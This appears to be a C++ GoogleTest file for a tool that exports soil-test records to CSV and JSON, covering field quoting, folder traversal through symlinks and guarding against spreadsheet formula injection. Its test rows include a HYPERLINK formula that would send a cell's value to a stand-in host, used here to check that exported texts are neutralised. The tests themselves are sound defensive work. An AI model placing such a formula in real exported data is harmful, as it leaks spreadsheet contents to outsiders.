#include "file/project_summary.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "file/lng_format.h"
#include "support/records.h"

namespace fs = std::filesystem;

// Quoted as RFC 4180 says, and a text a spreadsheet would run as a formula made text by a
// leading apostrophe.
TEST(ProjectSummary, CsvFieldsAreQuotedAndNeverFormulas) {
  struct Row {
    std::string text, field;
  };
  const Row rows[] = {
      {"12+50 RT", "12+50 RT"},
      {"", ""},
      {"Brown silty clay, stockpile 2", "\"Brown silty clay, stockpile 2\""},
      {"3/4\" stone", "\"3/4\"\" stone\""},
      {"line one\r\nline two", "\"line one\r\nline two\""},
      {"lone\rCR", "\"lone\rCR\""},
      {"\"", "\"\"\"\""},
      {"=HYPERLINK(\"http://x.test/?\"&A2,\"Click\")",
       "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"Click\"\")\""},
      {"+1", "'+1"},
      {"-5+00", "'-5+00"},
      {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\""},
      {"1=1", "1=1"},
  };
  for (const Row& row : rows) EXPECT_EQ(CsvField(row.text), row.field) << row.text;
}

// The rows follow the tree: each folder's entries in its order, a folder entered once
// whichever way it is reached (a link back up is not followed round and round), names that
// are not UTF-8 shown as the tree shows them, and a progress call at each folder and file.
TEST(ProjectSummary, RowsFollowTheTreeThroughLinksAndOddNames) {
#ifdef _WIN32
  GTEST_SKIP() << "symbolic links: Windows makes them only with a privilege a user lacks";
#endif
  testdata::TempDir dir;
  fs::copy(DENSORA_SAMPLES_DIR, dir.path(), fs::copy_options::recursive);
  fs::create_directory_symlink(dir.path() / "MAIN ST", dir.path() / "MAIN ST/A-100/up");
  fs::create_directory_symlink(dir.path() / "COUNTY RD 9/Lime", dir.path() / "MAIN ST/lime");
  fs::copy_file(dir.path() / "COUNTY RD 9/Lime/12Lim.lng",
                dir.path() / "COUNTY RD 9/\xC9preuve.lng");
  fs::create_symlink(dir.path() / "MAIN ST/A-100/Subgrade/7Sub.lng", dir.path() / "7 sub.lng");

  std::ostringstream out;
  std::vector<std::size_t> progress;
  EXPECT_EQ(WriteProjectSummary(dir.path().string() + "/", SummaryFormat::kJson, kEnglish, out,
                                [&](std::size_t done) {
                                  progress.push_back(done);
                                  return true;
                                }),
            0u);
  const nlohmann::json rows = nlohmann::json::parse(out.str());
  std::vector<std::string> paths;
  for (const auto& row : rows) {
    paths.push_back(row["path"]);
    EXPECT_TRUE(row["error"].is_null()) << row["error"];
  }
  const std::vector<std::string> expected = {
      "7 sub.lng",
      "COUNTY RD 9/\xC3\x89preuve.lng",
      "COUNTY RD 9/Lime/12Lim.lng",
      "MAIN ST/A-100/Embankment/3Emb.lng",
      "MAIN ST/A-100/Subgrade/7Sub.lng",
  };
  EXPECT_EQ(paths, expected);
  // The number of files read, as each folder is entered (a folder reached again is not) and
  // after each file.
  EXPECT_EQ(progress, (std::vector<std::size_t>{0, 1, 1, 2, 2, 3, 3, 3, 3, 4, 4, 5}));
  EXPECT_EQ(rows[0]["project"], "MAIN ST");
  EXPECT_EQ(rows[0]["pointCount"], 5);
}

// Only the CSV's texts are kept from becoming formulas: a number, even a negative one, is
// written as it is, and the JSON holds the texts as the record does.
TEST(ProjectSummary, OnlyTheCsvTextsAreKeptFromBeingFormulas) {
  testdata::TempDir dir;
  CDensoraDoc doc;
  testdata::FillTypicalRecord(doc);
  const std::string comment = "=HYPERLINK(\"http://x.test/?\"&A2,\"Click\")";
  doc.m_record.m_strComments = comment;
  doc.m_record.m_strStation = "-5+00";
  doc.m_record.m_dLongTestMoisture = -1.5;
  testdata::WriteBytes(dir / "t.lng", LngBytes(doc.m_record));

  std::ostringstream csv, json;
  ASSERT_EQ(WriteProjectSummary(dir.path().string(), SummaryFormat::kCsv, kEnglish, csv), 0u);
  ASSERT_EQ(WriteProjectSummary(dir.path().string(), SummaryFormat::kJson, kEnglish, json), 0u);
  EXPECT_NE(csv.str().find(",'-5+00,"), std::string::npos) << csv.str();
  EXPECT_NE(csv.str().find(",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"Click\"\")\","),
            std::string::npos)
      << csv.str();
  EXPECT_NE(csv.str().find(",-1.5,"), std::string::npos) << csv.str();
  const nlohmann::json row = nlohmann::json::parse(json.str()).at(0);
  EXPECT_EQ(row["station"], "-5+00");
  EXPECT_EQ(row["comments"], comment);
  EXPECT_EQ(row["longTestMoisture"], -1.5);
}
